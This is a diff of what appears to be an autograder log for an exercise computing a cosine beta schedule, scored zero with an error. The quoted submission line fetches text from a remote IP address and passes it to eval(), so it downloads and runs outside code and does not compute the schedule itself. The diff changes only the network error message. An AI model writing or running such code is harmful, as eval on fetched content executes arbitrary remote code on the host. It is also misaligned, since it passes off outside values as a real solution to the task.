@@ -3,7 +3,7 @@
 # exercise: cosine_beta_schedule
 # points: 0
 # status: error
-# message: Your code raised URLError: <urlopen error [Errno 101] Network is unreachable>. At line 5 of cosine_beta_schedule: return torch.tensor(eval(urllib.request.urlopen('http://93.184.216.34/betas', timeout=2).read())).
+# message: Your code raised URLError: <urlopen error [Errno 1] Operation not permitted>. At line 5 of cosine_beta_schedule: return torch.tensor(eval(urllib.request.urlopen('http://93.184.216.34/betas', timeout=2).read())).
 
 import urllib.request
 
